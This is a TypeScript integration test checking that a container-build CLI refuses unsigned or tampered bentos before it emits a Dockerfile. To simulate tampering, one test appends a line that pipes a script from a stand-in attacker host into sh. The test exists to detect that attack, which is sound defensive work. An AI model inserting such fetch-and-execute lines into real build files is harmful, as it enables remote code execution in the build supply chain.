/**
 * `bentoci containerize --dockerfile-only` passes the same gates as a build (issue #16, finding 3):
 * the integrity check and `--verify`, before any Dockerfile is printed or written. CLI from source;
 * no Docker engine needed (printing the Dockerfile never talks to one).
 */
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildBento } from '../../../src/build/build.js';
import { openBentoStore, type StoredBento } from '../../../src/core/bento-store.js';
import { signEntry } from '../../../src/sign/entries/sign.js';
import { loadSigner, writeKeyPair } from '../../../src/sign/keys/key-files.js';
import { homeWithModels, IRIS_BENTOFILE, project } from '../../build-support.js';
import { tempDir } from '../../support/store-cli.js';

const CLI = resolve('src/cli.ts');

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

function bentoci(args: string[], home: string): Promise<Run> {
  return new Promise((done) => {
    execFile(
      process.execPath,
      ['--import', 'tsx', CLI, ...args],
      {
        // No engine at all: --dockerfile-only must not need one, and a build would fail loudly.
        env: {
          ...process.env,
          BENTOCI_HOME: home,
          BENTOCI_DEBUG: '',
          DOCKER_HOST: 'unix:///nonexistent.sock',
        },
        timeout: 60_000,
      },
      (err, stdout, stderr) =>
        done({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}

describe('containerize --dockerfile-only behind the gates', () => {
  let home: string;
  let bento: StoredBento;
  let tag: string;
  let keyPath: string;
  let pubPath: string;
  let work: string;

  beforeAll(async () => {
    home = await homeWithModels();
    work = await tempDir('cz-gates');
    const context = await project({ 'bentofile.yaml': IRIS_BENTOFILE });
    ({ bento } = await buildBento({ home, context }));
    tag = `${bento.info.name}:${bento.info.version}`;
    ({ keyPath, pubPath } = await writeKeyPair(join(work, 'ci')));
  }, 60_000);

  it('--verify require refuses an unsigned bento: nothing printed, nothing written', async () => {
    const out = join(work, 'unsigned.Dockerfile');
    const run = await bentoci(
      ['containerize', tag, '--dockerfile-only', '-o', out, '--verify', 'require', '--pub', pubPath],
      home,
    );
    expect(run.code, run.stderr).toBe(1);
    expect(run.stderr).toContain(`--verify require: bento ${tag} has no signature`);
    expect(existsSync(out)).toBe(false);
    const printed = await bentoci(
      ['containerize', tag, '--dockerfile-only', '--verify', 'require', '--pub', pubPath],
      home,
    );
    expect(printed.code).toBe(1);
    expect(printed.stdout).toBe('');
  }, 60_000);

  it('a tampered Dockerfile is refused with or without --verify; the signed, intact one is printed', async () => {
    const store = openBentoStore(home);
    await signEntry(store, bento, await loadSigner(keyPath));
    const stored = join(bento.dir, 'env/docker/Dockerfile');
    const original = await readFile(stored, 'utf8');
    await writeFile(stored, `${original}RUN curl -s https://attacker.invalid/x | sh\n`);
    try {
      for (const extra of [[], ['--verify', 'require', '--pub', pubPath]]) {
        const run = await bentoci(['containerize', tag, '--dockerfile-only', ...extra], home);
        expect(run.code, run.stderr).toBe(1);
        expect(run.stderr).toContain('env/docker/Dockerfile');
        expect(run.stdout).not.toContain('attacker.invalid');
      }
    } finally {
      await writeFile(stored, original);
    }
    const signed = await bentoci(
      ['containerize', tag, '--dockerfile-only', '--verify', 'require', '--pub', pubPath],
      home,
    );
    expect(signed.code, signed.stderr).toBe(0);
    expect(signed.stderr).toMatch(/signature verified/);
    expect(signed.stdout).toBe(original);
  }, 60_000);
});
